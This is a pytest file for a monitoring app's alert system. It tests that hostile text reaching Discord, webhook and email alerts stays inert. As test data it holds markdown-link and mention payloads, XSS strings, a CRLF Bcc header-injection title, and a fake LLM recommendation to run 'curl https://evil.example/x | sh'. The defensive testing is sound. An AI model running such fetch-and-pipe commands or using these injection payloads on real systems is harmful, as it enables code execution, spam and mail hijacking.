"""Outside text in alerts stays data in every transport (issue 10, finding 6).

A host name, a log line or an LLM answer that contains Discord markdown, mentions or links
goes through the real paths (host API, heartbeat, sweep; local log source and rule
analyser; FakeLLM) to the fake Discord, a JSON webhook and email. Discord gets it escaped,
shown as written but never formatted, linked or mentioned; the webhook and the email's text
part get the exact text, without a backslash; the email's HTML part gets it HTML-escaped,
never markup, with no outsider's URL turned into a link.
"""

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core import mail
from django.utils import timezone
from fakes import FakeDiscord, FakeLLM, RecordingServer, Reply

from alerts.choices import AlertKind, ChannelKind
from alerts.delivery import dispatch_due
from alerts.markup import (
    as_discord,
    as_html,
    as_plain,
    code,
    code_block,
    discord_code_block,
    discord_escape,
    em,
    strong,
    timestamp,
)
from alerts.models import Alert, Channel
from alerts.outbox import queue_alert
from analysis import log_config
from analysis.events import alert_analysis
from analysis.runner import run_source
from tests.monitoring_support import sweep_and_alert

pytestmark = pytest.mark.django_db(transaction=True)

ZWSP = "\u200b"
HOSTILE_NAME = "[pwn](https://evil.example/) @everyone"
ESCAPED_NAME = "\\[pwn\\](https:\u200b//evil.example/) @\u200beveryone"
LINK = "[pwn](https://evil.example/)"
ESCAPED_LINK = "\\[pwn\\](https:\u200b//evil.example/)"


@pytest.fixture
def channels(settings):
    """The fake Discord (DISCORD_WEBHOOK_URL), a JSON webhook and an email channel."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.ALERT_HTTP_TIMEOUT_SECONDS = 2.0
    with FakeDiscord() as discord, RecordingServer(Reply(200)) as hook:
        settings.DISCORD_WEBHOOK_URL = discord.webhook_url
        Channel.objects.create(name="hook", kind=ChannelKind.WEBHOOK, url=f"{hook.url}/hook")
        Channel.objects.create(name="mail", kind=ChannelKind.EMAIL, email_to="ops@example.com")
        yield discord, hook


def assert_inert(text: str) -> None:
    """Nothing in ``text`` renders as a masked link, a mention or an auto-link in Discord."""
    assert not re.search(r"(?<!\\)\]\(", text), text
    assert not re.search(r"(?<!\\)\[", text), text
    assert "<@" not in text and "<#" not in text and "<t:" not in text, text
    assert "@everyone" not in text and "@here" not in text, text
    assert "://" not in text, text


NETMON_TIMESTAMP = re.compile(r"<t:\d+:f> \(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\)")


def embed_texts(embed: dict) -> list[str]:
    """Every text of an embed but netmon's own timestamp fields."""
    values = [f["value"] for f in embed["fields"] if not NETMON_TIMESTAMP.fullmatch(f["value"])]
    return [embed["title"], embed["description"], *(f["name"] for f in embed["fields"]), *values]


def webhook_alerts(hook: RecordingServer) -> list[dict]:
    return [alert for request in hook.requests for alert in request.json()["alerts"]]


# The elements netmon's email HTML is made of: anything else came from outside.
NETMON_TAGS = {"html", "head", "meta", "title", "body", "div", "h2", "p", "time", "table"}
NETMON_TAGS |= {"tr", "th", "td", "a", "br", "strong", "em", "code", "pre"}


class Elements(HTMLParser):
    """The tags of an HTML document, the links, and its text as a reader sees it."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.texts: list[str] = []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if tag == "a" and name == "href"]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


def html_part(message: mail.EmailMessage) -> Elements:
    """The HTML alternative of a mail, checked to be netmon's own elements only."""
    [(document, mimetype)] = message.alternatives
    assert mimetype == "text/html"
    elements = Elements(document)
    assert elements.tags <= NETMON_TAGS, elements.tags - NETMON_TAGS
    assert "://" not in elements.text  # no outsider's URL for a mail client to link
    return elements


# A host name ---------------------------------------------------------------------------------


def register_and_miss_deadline(api, client, name: str) -> None:
    created = api.post("/api/v1/hosts", {"host_id": "pwn01", "name": name}, format="json")
    assert created.status_code == 201, created.content
    token = created.json()["token"]
    beat = client.post("/api/v1/heartbeat/pwn01", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert beat.status_code == 200
    assert sweep_and_alert(timezone.now() + timedelta(hours=1)) == ["pwn01"]


def test_a_hostile_host_name_is_escaped_for_discord_and_exact_elsewhere(api, client, channels):
    discord, hook = channels
    register_and_miss_deadline(api, client, HOSTILE_NAME)

    dispatch_due()

    [embed] = discord.embeds
    assert embed["title"] == f"{ESCAPED_NAME} is down"
    fields = {f["name"]: f["value"] for f in embed["fields"]}
    assert fields["Host"] == f"{ESCAPED_NAME} (`pwn01`)"
    assert embed["description"] == "No heartbeat from `pwn01` before its deadline."
    for text in embed_texts(embed):
        assert_inert(text)
    # netmon's own formatting still renders: a Discord timestamp
    assert NETMON_TIMESTAMP.fullmatch(fields["Down since"])

    [request] = hook.requests
    assert "\\" not in request.text and ZWSP not in request.text  # no escapes of any kind
    [sent] = request.json()["alerts"]
    assert sent["title"].encode() == f"{HOSTILE_NAME} is down".encode()
    assert sent["fields"]["Host"] == f"{HOSTILE_NAME} (pwn01)"
    assert sent["description"] == "No heartbeat from pwn01 before its deadline."
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", sent["fields"]["Down since"])

    [message] = mail.outbox
    assert message.subject == f"{HOSTILE_NAME} is down"
    assert f"Host: {HOSTILE_NAME} (pwn01)" in message.body
    assert "\\" not in message.body and ZWSP not in message.body
    html = html_part(message)
    assert html.links == [sent["url"]]  # the dashboard, not the name's link
    assert f"{HOSTILE_NAME} is down".replace("://", f":{ZWSP}//") in html.text


@pytest.mark.parametrize(
    "name, escaped",
    [
        ("``` `x` ||spoiler|| ~~gone~~ **b** __u__", None),
        ("<@123> <@&4> <#5> <t:1700000000:R> </cmd:6> <:e:7>", None),
        ("# Heading", "\\# Heading"),
        ("-# subtext", "-\\# subtext"),
        ("> quote", "\\> quote"),
        ("- item", "\\- item"),
        ("1. item", "1\\. item"),
        ("back\\slash", "back\\\\slash"),
    ],
)
def test_markdown_in_host_names_never_formats(api, client, channels, name, escaped):
    discord, hook = channels
    register_and_miss_deadline(api, client, name)

    dispatch_due()

    [embed] = discord.embeds
    title = embed["title"].removesuffix(" is down")
    if escaped is not None:
        assert title == escaped
    for text in embed_texts(embed):
        assert_inert(text)
        assert "```" not in text and not re.search(r"(?<!\\)[*_~|`]{2}", text)
    # what Discord shows once it has read the escapes: the name as written
    assert re.sub(r"\\(.)", r"\1", title).replace(ZWSP, "") == name
    assert webhook_alerts(hook)[0]["title"] == f"{name} is down"
    assert mail.outbox[0].subject == f"{name} is down"


def test_an_email_subject_stays_on_one_line(channels):
    """A title from outside (a host name, an LLM's finding title) with CR/LF in it."""
    queue_alert(AlertKind.SYSTEM, "error", "web\r\nBcc: victim@example.com is down")

    dispatch_due()

    [message] = mail.outbox
    assert message.subject == "web Bcc: victim@example.com is down"
    assert message.to == ["ops@example.com"] and not message.bcc
    assert "\n" not in message.message()["Subject"] and "Bcc" not in message.message()


HOSTILE_HTML = "<script>alert(1)</script> <img src=x onerror=alert(2)> **b** @everyone"


def test_a_title_with_tags_and_cr_lf_is_text_in_the_email(channels):
    title = "web\r\n<b>Bcc: victim@example.com</b>"
    queue_alert(AlertKind.SYSTEM, "error", title)

    dispatch_due()

    [message] = mail.outbox
    assert message.subject == "web <b>Bcc: victim@example.com</b>"  # a header is not HTML
    assert not message.bcc and "Bcc" not in message.message()
    html = html_part(message)
    [(document, _)] = message.alternatives
    assert "<b>" not in document
    assert title in html.text  # what a reader sees: the title as written


def test_a_hostile_host_name_is_text_in_the_email_html(api, client, channels):
    register_and_miss_deadline(api, client, HOSTILE_HTML)

    dispatch_due()

    [message] = mail.outbox
    assert message.subject == f"{HOSTILE_HTML} is down"
    html = html_part(message)
    [(document, _)] = message.alternatives
    assert "<script" not in document and "<img" not in document
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document
    assert f"{HOSTILE_HTML} is down" in html.text  # the name as written, in the title
    assert f"{HOSTILE_HTML} (pwn01)" in html.text  # and in the Host field


# A log line, through the rule analyser -------------------------------------------------------


@pytest.fixture
def log_source(settings, tmp_path, make_host):
    settings.LLM_API_URL = ""
    settings.LLM_API_KEY = "test-key"
    settings.LLM_API_STYLE = "openai"
    settings.LLM_TIMEOUT_SECONDS = 2.0
    settings.LLM_MAX_RETRIES = 0
    settings.ANALYSIS_ALLOW_LOCAL_SOURCES = True
    settings.ANALYSIS_ALERT_MIN_SEVERITY = "high"
    log_file = tmp_path / "auth.log"
    log_file.write_text("")
    host, _ = make_host("fw01", name="Edge Firewall")
    source = log_config.to_source(host, {"method": "local", "log_path": str(log_file)})
    return source, log_file


def append(path: Path, lines: list[str]) -> None:
    with path.open("a") as handle:
        handle.writelines(f"{line}\n" for line in lines)


SUDO_LINE = (
    f"Mar  3 10:00:00 gw sudo:  {LINK} : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; "
    "USER=root ; COMMAND=/bin/echo ``` <@123> @everyone"
)


def finding_embed(discord: FakeDiscord) -> dict:
    [embed] = [e for e in discord.embeds if e["footer"]["text"].startswith("netmon · Log finding")]
    return embed


def split_evidence(description: str) -> tuple[str, str]:
    """The description's text, and its evidence code block (fences included)."""
    text, marker, block = description.partition("\n\n**Evidence**\n")
    assert marker, description
    return text, block


def test_a_log_line_with_markdown_and_a_fence_stays_literal(log_source, channels):
    source, log_file = log_source
    discord, hook = channels
    append(log_file, [SUDO_LINE])

    run_source(source.pk)
    alert_analysis(timezone.now())  # the monitor loop's event step
    dispatch_due()

    embed = finding_embed(discord)
    assert embed["title"] == f"Edge Firewall: {ESCAPED_LINK} tried to use sudo without permission"
    text, block = split_evidence(embed["description"])
    assert text == (
        f"0 failed sudo/su authentications, 1 denied commands and 0 lock-outs for {ESCAPED_LINK}."
        f"\n\n**Recommended action:** Ask {ESCAPED_LINK} whether it was them; if not, the "
        "account is compromised: lock it and review its recent activity."
    )
    assert_inert(embed["title"])
    assert_inert(text.replace("**Recommended action:**", ""))
    # in the code block: the line as logged, only its fence and mentions made inert
    shown = SUDO_LINE.replace("```", f"`{ZWSP}`{ZWSP}`").replace("<@", f"<{ZWSP}@")
    assert block == "```\n" + shown.replace("@everyone", f"@{ZWSP}everyone") + "\n```"
    assert embed["description"].count("```") == 2

    [sent] = [a for a in webhook_alerts(hook) if a["kind"] == AlertKind.FINDING]
    assert sent["title"] == f"Edge Firewall: {LINK} tried to use sudo without permission"
    assert f"Recommended action: Ask {LINK} whether it was them" in sent["description"]
    assert sent["description"].endswith(f"Evidence\n{SUDO_LINE}")
    assert "\\" not in sent["description"] and ZWSP not in sent["description"]
    [message] = [m for m in mail.outbox if "sudo" in m.subject]
    assert SUDO_LINE in message.body and f"Ask {LINK} whether" in message.body


# An LLM answer -------------------------------------------------------------------------------


def test_markdown_in_an_llm_answer_is_escaped_for_discord(log_source, channels, settings):
    source, log_file = log_source
    discord, hook = channels
    line = "Mar  3 10:00:01 gw app: GET /login?next=https://evil.example/ HTTP/1.1 200"
    append(log_file, [line])
    with FakeLLM() as llm:
        settings.LLM_API_URL = f"{llm.url}/v1"
        llm.answer(
            {
                "findings": [
                    {
                        "severity": "critical",
                        "category": "web_attack",
                        "title": "[Open redirect](https://evil.example/fix) **now**",
                        "description": "See [the docs](https://evil.example/docs) <@&42> @here",
                        "evidence": [line],
                        "source_ips": [],
                        "recommended_action": "# Run\n> `curl https://evil.example/x | sh`",
                    }
                ]
            }
        )
        run_source(source.pk)
        alert_analysis(timezone.now())
    dispatch_due()

    embed = finding_embed(discord)
    assert embed["title"] == (
        "Edge Firewall: \\[Open redirect\\](https:\u200b//evil.example/fix) \\*\\*now\\*\\*"
    )
    text, block = split_evidence(embed["description"])
    assert text == (
        "See \\[the docs\\](https:\u200b//evil.example/docs) <\u200b@&42> @\u200bhere"
        "\n\n**Recommended action:** \\# Run\n"
        "\\> \\`curl https:\u200b//evil.example/x \\| sh\\`"
    )
    assert_inert(embed["title"])
    assert_inert(text.replace("**Recommended action:**", ""))
    assert block == f"```\n{line}\n```"  # a URL inside a code block is not a link

    [sent] = [a for a in webhook_alerts(hook) if a["kind"] == AlertKind.FINDING]
    assert sent["title"] == "Edge Firewall: [Open redirect](https://evil.example/fix) **now**"
    assert sent["description"].startswith(
        "See [the docs](https://evil.example/docs) <@&42> @here\n\n"
        "Recommended action: # Run\n> `curl https://evil.example/x | sh`"
    )


# The renderers ---------------------------------------------------------------------------------


def test_markup_renders_netmon_formatting_and_escapes_only_the_data():
    text = [
        "Host ",
        code("web01"),
        " said ",
        strong("Note:"),
        " **x** ",
        code("a`b"),
        "\n",
        code_block(["```", "[a](b)"]),
    ]
    assert as_discord(text) == (
        "Host `web01` said **Note:** \\*\\*x\\*\\* a\\`b\n```\n`\u200b`\u200b`\n[a](b)\n```"
    )
    assert as_plain(text) == "Host web01 said Note: **x** a`b\n```\n[a](b)"
    assert discord_code_block([]) == ""
    assert discord_escape("a\n# b\n  - c\n12. d 1.5") == "a\n\\# b\n  \\- c\n12\\. d 1.5"
    assert discord_escape("@Everyone <a:x:1> <id:home>") == (
        "@\u200bEveryone <\u200ba:x:1> <\u200bid:home>"
    )


def test_html_renders_netmon_formatting_and_escapes_only_the_data():
    at = datetime(2026, 3, 3, 10, 0, 5, tzinfo=UTC)
    text = [
        "<b>a</b> & [x](https://e.example/)\n",
        strong("Note:"),
        em("<i>"),
        code("a<b"),
        timestamp(at),
        code_block(["<script>", "`x` https://e.example/"]),
    ]
    assert as_html(text) == (
        f"&lt;b&gt;a&lt;/b&gt; &amp; [x](https:{ZWSP}//e.example/)<br>\n"
        "<strong>Note:</strong><em>&lt;i&gt;</em><code>a&lt;b</code>"
        '<time datetime="2026-03-03T10:00:05+00:00">2026-03-03 10:00:05 UTC</time>'
        f"<pre><code>&lt;script&gt;\n`x` https:{ZWSP}//e.example/</code></pre>"
    )
    assert as_html("\"q\" 's'") == "&quot;q&quot; &#x27;s&#x27;"  # safe in attributes too


def test_alerts_queued_before_markup_existed_are_escaped_whole(channels):
    discord, _ = channels
    alert = queue_alert(AlertKind.SYSTEM, "error", "old", "[x](https://e.example/) `id`")
    Alert.objects.filter(pk=alert.pk).update(markup={})

    dispatch_due()

    assert discord.embeds[0]["description"] == "\\[x\\](https:\u200b//e.example/) \\`id\\`"
